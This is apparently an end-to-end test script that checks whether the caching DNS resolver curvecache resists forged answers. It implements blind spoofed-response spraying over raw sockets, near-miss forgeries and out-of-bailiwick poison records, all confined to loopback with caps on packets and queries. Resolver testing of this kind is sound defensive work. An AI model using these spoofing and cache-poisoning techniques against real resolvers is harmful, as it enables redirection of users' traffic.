#!/usr/bin/env python3
"""tests/e2e/forger.py: forged DNS answers on loopback, for the forgery
test of curvecache (tests/e2e/forgery_lab.sh). Root only (raw sockets).
Every packet goes to a 127.0.0.0/8 address and every address it forges
into DNS data is in 127.66.0.0/16, so even a poisoned resolver would only
ever talk to loopback.

Two modes:

  forger.py spray SRCS DST PORTLO PORTHI NAMES COUNT SECONDS
      Blind spraying (an off-path attacker): up to COUNT forged responses,
      for at most SECONDS, to DST ports PORTLO..PORTHI in turn, each from
      one of SRCS (comma-separated addresses, source port 53, spoofed with
      a raw socket), with a random ID, for one of the names in the file
      NAMES (one per line, cycled), type A, answer 127.66.66.66. Prints
      "spray started" first and "spray sent N packets in S s" at the end.

  forger.py server ADDR SECONDS
      Plays the authoritative server of spoof.lab. on ADDR port 53 (UDP)
      for at most SECONDS (or until SIGTERM): spoof.lab. SOA/NS,
      ns1.spoof.lab. A ADDR, www.spoof.lab. A 192.0.2.60, NXDOMAIN for
      other names. Before each genuine answer to a question about
      www.spoof.lab. it sends near misses, forged answers that differ from
      a genuine one in one respect each (answer 127.66.66.66, or a CNAME
      to evil.example.lab. for other types):
        id      16 answers with a wrong ID
        case    the question with every letter's case flipped (0x20)
        name    another question name (x.<qname>)
        noqr    QR bit clear (a query, not an answer)
        port    right ID and question, but from another source port
        addr    right ID and question, from another address
                (127.53.1.251, spoofed with a raw socket)
      The genuine answer itself carries out-of-bailiwick poison: in the
      authority section "example.lab. NS ns1.example.lab." and in the
      additional section ns1.example.lab. and www.example.lab. A
      127.66.66.66. Prints one line per query received:
        "query ID QNAME QTYPE from IP:PORT near-misses N"
      and "server done Q queries" at the end.

Bounded: at most SPRAY_MAX packets and SERVER_MAX_QUERIES queries.
"""

import os
import random
import signal
import socket
import struct
import sys
import time

SPRAY_MAX = 200000
SERVER_MAX_QUERIES = 200
FORGED_ADDR = "127.66.66.66"
WWW_ADDR = "192.0.2.60"
ZONE = "spoof.lab."
NEIGHBOUR = "127.53.1.251"
TYPE_A, TYPE_NS, TYPE_CNAME, TYPE_SOA = 1, 2, 5, 6
CLASS_IN = 1
RCODE_NXDOMAIN = 3
WRONG_IDS = 16

stop = False


def on_signal(_sig, _frame):
    global stop
    stop = True


def loopback(addr):
    return socket.inet_aton(addr)[0] == 127


def wire_name(name):
    """A text name (case kept, final dot optional) in wire format."""
    out = b""
    for label in name.rstrip(".").split("."):
        if label:
            raw = label.encode()
            out += bytes([len(raw)]) + raw
    return out + b"\0"


def rr(name, rtype, ttl, rdata):
    return (wire_name(name) + struct.pack("!HHIH", rtype, CLASS_IN, ttl,
                                          len(rdata)) + rdata)


def rr_a(name, addr, ttl=3600):
    return rr(name, TYPE_A, ttl, socket.inet_aton(addr))


def soa_rr():
    rdata = (wire_name("ns1." + ZONE) + wire_name("hostmaster." + ZONE) +
             struct.pack("!IIIII", 2024010101, 3600, 600, 86400, 300))
    return rr(ZONE, TYPE_SOA, 300, rdata)


def message(qid, flags, qname_wire, qtype, an=(), ns=(), ar=()):
    head = struct.pack("!HHHHHH", qid, flags, 1, len(an), len(ns), len(ar))
    return (head + qname_wire + struct.pack("!HH", qtype, CLASS_IN) +
            b"".join(an) + b"".join(ns) + b"".join(ar))


def raw_udp(sock, src, sport, dst, dport, payload):
    """Send one UDP datagram with any source address (raw socket)."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp),
                     random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    sock.sendto(ip + udp, (dst, 0))


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def spray(args):
    srcs = args[0].split(",")
    dst, lo, hi = args[1], int(args[2]), int(args[3])
    with open(args[4]) as f:
        names = [n.strip() for n in f if n.strip()]
    count = min(int(args[5]), SPRAY_MAX)
    deadline = time.monotonic() + float(args[6])
    if not all(loopback(a) for a in srcs + [dst]) or not names:
        sys.stderr.write("spray: loopback addresses and names only\n")
        return 1
    sock = raw_socket()
    print("spray started", flush=True)
    t0 = time.monotonic()
    sent = 0
    port = lo
    while sent < count and not stop and time.monotonic() < deadline:
        name = names[sent % len(names)]
        qname = wire_name(name)
        msg = message(random.getrandbits(16), 0x8400, qname, TYPE_A,
                      an=[rr_a(name, FORGED_ADDR)])
        try:
            raw_udp(sock, srcs[sent % len(srcs)], 53, dst, port, msg)
        except OSError:
            time.sleep(0.001)  # a full buffer: let the kernel drain
            continue
        sent += 1
        port = lo if port >= hi else port + 1
    print("spray sent %d packets in %.1f s" % (sent, time.monotonic() - t0))
    return 0


def parse_query(pkt):
    """(id, flags, qname wire bytes as sent, qname text, qtype) or None."""
    if len(pkt) < 12:
        return None
    qid, flags, qd = struct.unpack("!HHH", pkt[:6])
    if flags & 0x8000 or qd != 1:
        return None
    pos, labels = 12, []
    while pos < len(pkt) and len(labels) < 128:
        n = pkt[pos]
        if n == 0 or n > 63:
            break
        labels.append(pkt[pos + 1:pos + 1 + n].decode("latin-1"))
        pos += 1 + n
    if pos >= len(pkt) or pkt[pos] != 0 or pos + 5 > len(pkt):
        return None
    qwire = pkt[12:pos + 1]
    qtype = struct.unpack("!H", pkt[pos + 1:pos + 3])[0]
    return qid, flags, qwire, ".".join(labels) + ".", qtype


def genuine(qid, flags, qwire, qname, qtype, addr):
    """The true answer of the spoof.lab. server, with poison added."""
    name = qname.lower()
    rd = flags & 0x0100
    head = 0x8400 | rd
    ar = [rr_a("ns1.example.lab.", FORGED_ADDR),
          rr_a("www.example.lab.", FORGED_ADDR)]
    an, ns = [], []
    if name == ZONE and qtype == TYPE_NS:
        an = [rr(ZONE, TYPE_NS, 3600, wire_name("ns1." + ZONE))]
        ar = [rr_a("ns1." + ZONE, addr)] + ar
    elif name == ZONE and qtype == TYPE_SOA:
        an = [soa_rr()]
    elif name == "ns1." + ZONE and qtype == TYPE_A:
        an = [rr_a(name, addr)]
    elif name == "www." + ZONE and qtype == TYPE_A:
        an = [rr_a(qname, WWW_ADDR)]
        ns = [rr("example.lab.", TYPE_NS, 3600,
                 wire_name("ns1.example.lab."))]
    elif name in (ZONE, "ns1." + ZONE, "www." + ZONE):
        ns = [soa_rr()]
    else:
        ns = [soa_rr()]
        head |= RCODE_NXDOMAIN
    return message(qid, head, qwire, qtype, an, ns, ar)


def forged(qid, flags, qwire, qname, qtype):
    """A forged answer for the question (qwire as given)."""
    head = 0x8400 | (flags & 0x0100)
    if qtype == TYPE_A:
        an = [rr_a(qname, FORGED_ADDR)]
    else:
        an = [rr(qname, TYPE_CNAME, 3600, wire_name("evil.example.lab."))]
    return message(qid, head, qwire, qtype, an)


def near_misses(sock, other, raw, peer, q):
    """Send the near misses for query q to peer; returns how many."""
    qid, flags, qwire, qname, qtype = q
    n = 0
    wrong = set()
    while len(wrong) < WRONG_IDS:
        w = random.getrandbits(16)
        if w != qid:
            wrong.add(w)
    for w in sorted(wrong):
        sock.sendto(forged(w, flags, qwire, qname, qtype), peer)
        n += 1
    flipped = qname.swapcase()
    if flipped != qname:
        sock.sendto(forged(qid, flags, wire_name(flipped), flipped, qtype),
                    peer)
        n += 1
    other_name = "x." + qname
    sock.sendto(forged(qid, flags, wire_name(other_name), other_name, qtype),
                peer)
    n += 1
    noqr = bytearray(forged(qid, flags, qwire, qname, qtype))
    noqr[2] &= 0x7F
    sock.sendto(bytes(noqr), peer)
    n += 1
    other.sendto(forged(qid, flags, qwire, qname, qtype), peer)
    n += 1
    raw_udp(raw, NEIGHBOUR, 53, peer[0], peer[1],
            forged(qid, flags, qwire, qname, qtype))
    n += 1
    return n


def server(args):
    addr, deadline = args[0], time.monotonic() + float(args[1])
    if not loopback(addr):
        sys.stderr.write("server: loopback addresses only\n")
        return 1
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((addr, 53))
    sock.settimeout(0.2)
    other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    other.bind((addr, 0))
    raw = raw_socket()
    print("server ready on %s:53" % addr, flush=True)
    queries = 0
    while not stop and time.monotonic() < deadline and \
            queries < SERVER_MAX_QUERIES:
        try:
            pkt, peer = sock.recvfrom(4096)
        except socket.timeout:
            continue
        q = parse_query(pkt)
        if q is None or not loopback(peer[0]):
            continue
        queries += 1
        n = 0
        if q[3].lower() == "www." + ZONE:
            n = near_misses(sock, other, raw, peer, q)
        sock.sendto(genuine(q[0], q[1], q[2], q[3], q[4], addr), peer)
        print("query %d %s %d from %s:%d near-misses %d" %
              (q[0], q[3], q[4], peer[0], peer[1], n), flush=True)
    print("server done %d queries" % queries, flush=True)
    return 0


def main():
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    random.seed(os.urandom(16))
    if len(sys.argv) == 9 and sys.argv[1] == "spray":
        return spray(sys.argv[2:])
    if len(sys.argv) == 4 and sys.argv[1] == "server":
        return server(sys.argv[2:])
    sys.stderr.write(__doc__)
    return 1


if __name__ == "__main__":
    sys.exit(main())
